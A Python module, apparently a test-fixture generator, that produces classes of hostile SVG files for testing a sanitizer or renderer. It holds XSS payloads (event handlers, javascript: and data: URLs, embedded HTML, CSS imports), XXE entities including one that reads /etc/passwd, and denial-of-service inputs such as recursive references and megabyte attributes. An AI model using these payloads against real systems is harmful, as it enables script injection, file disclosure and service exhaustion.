"""Hostile drawings, made by class; nothing is taken from anybody's list.

Each calls `alert`, or asks `elsewhere.invalid`, if whoever shows it lets it.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

RUN = "alert(1)"
OUT = "https://elsewhere.invalid/x"
SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
HTML = "http://www.w3.org/1999/xhtml"
ROOT = f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 90 90"'
SHAPES = (
    *("svg", "g", "rect", "path", "text", "image", "use", "a", "style", "script", "animate"),
    *("set", "foreignObject", "title", "filter", "feImage", "pattern", "mask", "switch", "video"),
)
EVENTS = (
    *("onload", "onclick", "onerror", "onmouseover", "onfocusin", "onbegin", "onend", "onrepeat"),
    *("ONLOAD", "onunload", "onresize", "onscroll", "onzoom", "onactivate", "onpointerenter"),
)
FOREIGN = (
    f'<script xmlns="{HTML}">{RUN}</script>',
    f'<img xmlns="{HTML}" src="{OUT}" onerror="{RUN}"/>',
    f'<iframe xmlns="{HTML}" src="javascript:{RUN}"/>',
    f'<iframe xmlns="{HTML}" srcdoc="&lt;script>parent.alert(1)&lt;/script>"/>',
    f'<body xmlns="{HTML}" onload="{RUN}"><link rel="stylesheet" href="{OUT}"/></body>',
    f'<meta xmlns="{HTML}" http-equiv="refresh" content="0;url={OUT}"/>',
    f'<video xmlns="{HTML}" autoplay="" src="{OUT}" onerror="{RUN}"/>',
    f'<form xmlns="{HTML}" action="{OUT}"><input autofocus="" onfocus="{RUN}"/></form>',
    f'<object xmlns="{HTML}" data="{OUT}"/><embed xmlns="{HTML}" src="{OUT}"/>',
    f'<base xmlns="{HTML}" href="{OUT}/"/><style xmlns="{HTML}">@import "{OUT}";</style>',
)
COVERS = ("{}", "<g>{}</g>", "<foreignObject width='9' height='9'>{}</foreignObject>",
          "<desc>{}</desc>", "<title>{}</title>", "<metadata>{}</metadata>", "<switch>{}</switch>",
          "<text>{}</text>", "<style>{}</style>", "<symbol id='s'>{}</symbol><use href='#s'/>",
          "<defs>{}</defs>", "<svg>{}</svg>", "<x:y xmlns:x='urn:x'>{}</x:y>")  # fmt: skip
INNER = f"<svg xmlns='{SVG}' id='i' onload='alert(1)'><script>{RUN}</script></svg>"
ADDRESSES = (
    *(OUT, "//elsewhere.invalid/x", f"javascript:{RUN}", f"JavaScript:{RUN}", f" javascript:{RUN}"),
    *(f"java&#10;script:{RUN}", f"&#106;avascript:{RUN}", "http://elsewhere.invalid/x#i"),
    *(f"data:text/html,&lt;script>{RUN}&lt;/script>", f"{OUT}#i", "ftp://elsewhere.invalid/x"),
    f"data:image/svg+xml,{INNER.replace('<', '&lt;').replace('#', '%23')}#i",
    f"data:image/svg+xml;base64,{base64.b64encode(INNER.encode()).decode()}#i",
    f"data:text/javascript,{RUN}",
)
REFERRERS = (
    *("<image {href}='{to}' width='9' height='9'/>", "<use {href}='{to}'/>"),
    *("<a {href}='{to}'><rect width='90' height='90'/></a>", "<script {href}='{to}'/>"),
    *("<feImage {href}='{to}'/>", "<pattern id='p' {href}='{to}'/><rect fill='url(#p)'/>"),
    *("<linearGradient id='p' {href}='{to}'/><rect fill='url(#p)' width='9' height='9'/>",),
    *("<textPath {href}='{to}'>x</textPath>", "<tref {href}='{to}'/>", "<cursor {href}='{to}'/>"),
    *("<animate {href}='{to}' attributeName='x' to='1'/>", "<mpath {href}='{to}'/>"),
    *("<filter id='f' {href}='{to}'><feImage {href}='{to}'/></filter>"
      "<rect filter='url(#f)' width='9' height='9'/>",),
    *("<font-face-uri {href}='{to}'/>", "<color-profile name='c' {href}='{to}'/>"),
    *("<handler type='text/javascript' {href}='{to}'/>", "<audio {href}='{to}' src='{to}'/>"),
    *("<discard {href}='{to}'/>", "<glyphRef {href}='{to}'/>", "<video src='{to}' {href}='{to}'/>"),
    *("<rect {href}='{to}' src='{to}' xml:base='{to}' width='9' height='9'/>",),
    *("<link {href}='{to}' rel='stylesheet'/>", "<iframe src='{to}'/>", "<base {href}='{to}'/>"),
)  # fmt: skip
HREFS = ("href", "xlink:href", "q:href")
ANIMATIONS = (
    "<a><{0} attributeName='href' {1}='javascript:alert(1)' dur='9s' fill='freeze'/>"
    "<rect width='90' height='90'/></a>",
    "<a id='z'><rect width='90' height='90'/></a>"
    "<{0} href='#z' attributeName='xlink:href' {1}='javascript:alert(1)' fill='freeze'/>",
    f"<image width='9'><{{0}} attributeName='href' {{1}}='{OUT}' fill='freeze'/></image>",
    f"<use><{{0}} attributeName='href' {{1}}='{OUT}#i' fill='freeze'/></use>",
    f"<rect width='9' height='9'><{{0}} attributeName='fill' {{1}}='url({OUT}#i)'/></rect>",
    "<rect width='9' height='9'><{0} attributeName='onclick' {1}='alert(1)' fill='freeze'/></rect>",
    "<rect><{0} attributeName='x' {1}='1' begin='0s' dur='1ms' onbegin='alert(1)' onend='alert(1)'"
    " onrepeat='alert(1)'/></rect>",
)
MOVERS = ("animate", "set", "animateTransform", "animateMotion", "animateColor")
SPELLINGS = (
    f"url({OUT})",
    f"url('{OUT}#i')",
    f'url(  "{OUT}#i" )',
    f"URL({OUT}#i)",
    "u\\72l(//elsewhere.invalid/x)",
    "\\75rl(//elsewhere.invalid/x)",
    "url(//elsewhere.invalid/x)",
    f"image-set('{OUT}' 1x)",
    f"-webkit-image-set(url({OUT}) 1x)",
    f"image('{OUT}')",
    f"src('{OUT}')",
    f"cross-fade(url({OUT}), red)",
    f"url(#a) url({OUT})",
    f"url(#a)url({OUT}#i)",
    f"ur/**/l({OUT})",
    f"url(#a{OUT})",
    f"var(--x, url({OUT}))",
    f"url(data:image/svg+xml,x) url({OUT})",
    "expression(alert(1))",
    f"url({OUT}",
    f"none;fill:url({OUT}#i)",
    "url(javascript:alert(1))",
    f"url(#x)/*)*/,url({OUT})",
    f"env(x, url({OUT}))",
    f"attr(x type(&lt;url>), url({OUT}))",
)
PROPERTIES = (
    *("fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker-mid", "cursor"),
    *(
        "mask-image",
        "background",
        "background-image",
        "list-style-image",
        "content",
        "shape-inside",
    ),
    *("color-profile", "-webkit-mask-box-image", "border-image-source", "offset-path", "src"),
)
SHEETS = (
    *(f'@import "{OUT}";', f"@import url({OUT});", f"@IMPORT '{OUT}';", f"@\\69mport '{OUT}';"),
    *(f"@font-face{{font-family:x;src:url({OUT})}} text{{font-family:x}}",),
    *(
        f"@namespace url({OUT});@import '{OUT}';",
        f"&#64;import '{OUT}';",
        f"<![CDATA[@import '{OUT}';]]>",
    ),
    *(f"<!--@import '{OUT}';-->@import '{OUT}';", f"@media all{{rect{{fill:url({OUT}#i)}}}}"),
    *(
        f"@charset 'x';@import '{OUT}'",
        f"@property --x{{syntax:'&lt;url>';initial-value:url({OUT})}}",
    ),
    *(
        f"*{{background:url({OUT})}}",
        f"svg::before{{content:url({OUT})}}",
        f"*{{cursor:url({OUT}),auto}}",
    ),
    *(
        "*{behavior:url(x.htc)}",
        f"*{{-moz-binding:url({OUT}#x)}}",
        f"@supports(x:y){{}}@import '{OUT}';",
    ),
    *(
        f"&lt;/style>&lt;script>{RUN}&lt;/script>",
        f"<script>{RUN}</script>",
        f"<g onload='{RUN}'/>",
    ),
    *(f"]]&gt;<script>{RUN}</script>", f"<![CDATA[</style><script>{RUN}</script>]]>"),
)
BEFORE = (
    f'<?xml-stylesheet href="{OUT}"?>',
    f'<?xml-stylesheet type="text/xsl" href="{OUT}"?>',
    f'<?xml-stylesheet type="text/css" href="data:text/css,*{{background:url({OUT})}}"?>',
    f'<?xml-stylesheet type="text/xsl" href="data:text/xml,{RUN}"?>',
    f'<!DOCTYPE svg SYSTEM "{OUT}">',
    f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{OUT}">',
    f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{OUT}">]>',
    f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{OUT}"> %a;]>',
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    f'<!DOCTYPE svg [<!ENTITY a "&#60;script>{RUN}&#60;/script>">]>',
    f'<!DOCTYPE svg [<!ATTLIST rect onload CDATA "{RUN}" onclick CDATA "{RUN}">]>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>',
    f'<!DOCTYPE svg [<!ATTLIST use href CDATA #FIXED "{OUT}#i">]>',
    f'<!DOCTYPE svg [<!ATTLIST g style CDATA "background:url({OUT})">]>',
    '<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    '<?xml version="1.0" encoding="UTF-7"?>',
    '<?xml version="1.0" encoding="UTF-16"?>',
    '<?xml version="1.1"?>',
    f"<!--><script>{RUN}</script>-->",
    f"<?x ><script>{RUN}</script>?>",
)
NAMESPACES = (
    f"<x:script xmlns:x='{SVG}'>{RUN}</x:script>",
    f"<x:script xmlns:x='{HTML}'>{RUN}</x:script>",
    f"<g xmlns='{HTML}'><script>{RUN}</script></g>",
    f"<script xmlns=''>{RUN}</script>",
    f"<script xmlns='{SVG}&#x20;'>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<Script>{RUN}</Script>",
    f"<rect xmlns:x='{XLINK}' x:href='javascript:{RUN}' width='9' height='9'/>",
    f"<a xmlns:x='{XLINK}' x:href='javascript:{RUN}'><rect width='90' height='90'/></a>",
    "<g xmlns:e='http://www.w3.org/2001/xml-events' e:event='load'>"
    "<e:listener e:event='load' e:handler='#h'/></g>",
    f"<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{RUN}</handler>",
    f"<x:g xmlns:x='{SVG}' onload='{RUN}' x:onload='{RUN}'/>",
    f"<g xmlns:on='urn:x' on:load='{RUN}'/>",
    f"<g xmlns:xlink='urn:other'><use xlink:href='{OUT}#i'/></g>",
    f"<math xmlns='http://www.w3.org/1998/Math/MathML' href='javascript:{RUN}'>x</math>",
    f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{OUT}'/>",
    f"<xsl:include xmlns:xsl='http://www.w3.org/1999/XSL/Transform' href='{OUT}'/>",
    f"<rect xml:base='{OUT}/' width='9' height='9' fill='url(#i)'/>",
    f"<use xml:base='{OUT}' href='#i'/>",
)
LITERALS = (
    f"<script>{RUN}</script>",
    f"<script><![CDATA[{RUN}]]></script>",
    "<script>alert&#40;1)</script>",
    f"<script type='application/ecmascript'>{RUN}</script>",
    f"<script type='module'>{RUN}</script>",
    f"<![CDATA[</svg><script>{RUN}</script>]]>",
    f"<title>&lt;/title>&lt;script>{RUN}&lt;/script></title>",
    f"<rect id='\"&gt;&lt;script&gt;{RUN}&lt;/script&gt;'/>",
    f"<rect class=\"'&quot; onload='{RUN}\"/>",
    f"<rect id='&#10;' fill='&quot; onclick=&quot;{RUN}' width='90' height='90'/>",
    f"<text>]]&gt;&lt;script>{RUN}&lt;/script></text>",
    "<text>&#60;script&#62;alert(1)&#60;/script&#62;</text>",
    f"<rect style='x:&#39;&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;'/>",
    f"<?php {RUN} ?><?xml-stylesheet href='{OUT}'?>",
    f"<g lang='\"><script>{RUN}</script>'/>".replace("<script", "&lt;script").replace(
        "</script", "&lt;/script"
    ),
    f"<svg onload='{RUN}'><svg onload='{RUN}'/></svg>",
    f"<view id='v' viewTarget='{OUT}'/>",
    f"<!--<script>{RUN}</script>--><!-- --&gt;<script>{RUN}</script> -->",
    "\x00<script>alert(1)</script>",
    f"<style/><script>{RUN}</script>",
    f"<style><style>@import '{OUT}';</style></style>",
    f"<foreignObject requiredExtensions='{HTML}'>{FOREIGN[0]}</foreignObject>",
)
HEAVY = {
    "a thousand deep": "<g>" * 1000 + "</g>" * 1000,
    "a hundred thousand deep": "<g>" * 100_000,
    "a path of a megabyte": f'<path d="M0 0{"l1 1" * 240_000}"/>',
    "sixty thousand parts": "<g/>" * 60_000,
    "uses of uses": "".join(
        f'<g id="a{n}"><use href="#a{n + 1}"/><use href="#a{n + 1}"/></g>' for n in range(40)
    ),
    "a use of itself": '<g id="a"><use href="#a"/></g>',
    "a mask of itself": '<mask id="a"><rect mask="url(#a)"/></mask><rect mask="url(#a)"/>',
    "a mask in a style of itself": (
        '<mask id="a"><rect style="mask:url(#a)"/></mask><g mask="url(#a)"/>'
    ),
    "a filter on a filter": '<filter id="f"><feGaussianBlur stdDeviation="9"/></filter>'
    + '<g filter="url(#f)">' * 90
    + '<g style="filter:blur(9px)">' * 90,
    "a marker at each corner": '<marker id="m">'
    + "<path d='M0 0L1 1'/>" * 900
    + "</marker>"
    + f'<polyline marker-mid="url(#m)" points="{"1,2 3,4 " * 900}"/>',
    "an inherited marker": '<marker id="m">'
    + "<path d='M0 0L1 1'/>" * 900
    + "</marker>"
    + f'<g style="MARKER: url(#m)"><path d="M0 0{"l1 2" * 900}"/></g>',
    "blurs of a style sheet": "<style>*{filter:blur(9px)}</style>" + "<rect width='9'/>" * 9000,
    "a million attributes": "<g " + " ".join(f'a{n}="x"' for n in range(90_000)) + "/>",
    "one attribute of a megabyte": f'<g id="{"x" * 1_000_000}"/>',
    "one name of a megabyte": f"<{'x' * 1_000_000}/>",
    "calls without end": f'<rect fill="{"url(" * 200_000}"/>',
    "spaces before a call": f'<rect fill="{"a " * 100_000}{" " * 300_000}"/>',
    "words without a call": f'<rect fill="{"a" * 900_000}"/>',
    "a style of dashes": f"<style>{'-' * 900_000}</style>",
    "a view box of numbers": f'<svg viewBox="{"1" * 900_000}"/>',
    "a comment of a megabyte": f"<!--{'x' * 1_000_000}-->",
}
"""What would keep somebody busy."""

ENDLESS = {
    "a width of digits": f"width='{'1' * 900_000}x' height='9'",
    "a width of digits and spaces": f"width='1{' ' * 900_000}x' height='9'",
    "a width that is infinite": f"width='{'1' * 400}' height='9'",
    "a height that is nothing": f"width='9' height='.{'0' * 400}1'",
    "a box that is infinite": f"viewBox='0 0 {'1' * 400} 9'",
    "a box of points": f"viewBox='{'.' * 900_000}'",
    "a box of signs": f"viewBox='{'-1' * 400_000}'",
    "a box without room": "viewBox='0 0 0 0'",
}
"""Attributes of the root that hold numbers."""


def drawing(inside: str, before: str = "", more: str = "") -> bytes:
    return f"{before}{ROOT} {more}>{inside}</svg>".encode("utf-8", "surrogatepass")


def rooted(attributes: str) -> bytes:
    return f"<svg xmlns='{SVG}' {attributes}><path d='M0 0h9'/></svg>".encode()


def hostile() -> Iterator[tuple[str, bytes]]:
    """The class of each drawing, and the file."""
    for shape, event in product(SHAPES, EVENTS):
        attributes = f"{event}='{RUN}' width='90' height='90' href='x' begin='0s' dur='1s'"
        yield "event attributes", drawing(f"<{shape} {attributes}/>")
    for event in EVENTS:
        yield "event attributes", drawing("", more=f"{event}='{RUN}'")
    for cover, foreign in product(COVERS, (*FOREIGN, f"<script>{RUN}</script>")):
        yield "foreign", drawing(cover.format(foreign))
    for referrer, href, to in product(REFERRERS, HREFS, ADDRESSES):
        text = referrer.format(href=href, to=to.replace("'", "&apos;"))
        yield "references", drawing(text, more=f'xmlns:q="{XLINK}"')
    for animation, mover, name in product(ANIMATIONS, MOVERS, ("to", "values", "from", "by")):
        yield "animations", drawing(animation.format(mover, name))
    for spelling, name in product(SPELLINGS, PROPERTIES):
        value = spelling.replace("'", "&apos;")
        shape = f"<rect width='90' height='90' {name}='{value}'/>"
        yield "attributes that fetch", drawing(shape)
        yield "styles that fetch", drawing(f"<rect width='90' height='90' style='{name}:{value}'/>")
        yield "sheets that fetch", drawing(f"<style>*{{{name}:{spelling}}}</style><rect/>")
    for sheet in SHEETS:
        yield "sheets", drawing(f"<style>{sheet}</style><text>x</text>")
        yield "sheets", drawing(f"<style type='text/css' media='all'><g/>{sheet}</style>")
        yield "sheets", drawing(f"<rect style='{sheet.replace(chr(39), '&apos;')}'/>")
    for before in BEFORE:
        yield "before the root", drawing("<rect width='90' height='90'/><g/>&a;", before)
        yield "before the root", drawing("<rect width='90' height='90'/><g/><use/>", before)
        yield "before the root", b"\xef\xbb\xbf" + drawing("<g/>", f"\n{before}")
    for inside in (*NAMESPACES, *LITERALS):
        yield "odd", drawing(inside)
        yield "odd", drawing(f"<g><svg>{inside}</svg></g>")
        yield "odd", f"<x:svg xmlns:x='{SVG}'>{inside}</x:svg>".encode()
    script = f"<script>{RUN}</script>"
    for coding in ("utf-16", "utf-16-be", "utf-32", "utf-7", "cp037", "latin-1"):
        yield "codings", drawing(f"{script}é").decode().encode(coding)
    yield "codings", drawing("").replace(b"</svg>", b"\xc0\xbcscript>alert(1)</script></svg>")
    yield "codings", drawing("").replace(b"</svg>", b"\xed\xa0\x80</svg>")
    yield "codings", f"<html xmlns='{HTML}'>{script}</html>".encode()
    yield "codings", f"<svg>{script}</svg>".encode()
    yield "codings", drawing("") + script.encode()
    for inside in HEAVY.values():
        yield "heavy", drawing(inside)
    for root in ENDLESS.values():
        yield "heavy", rooted(root)
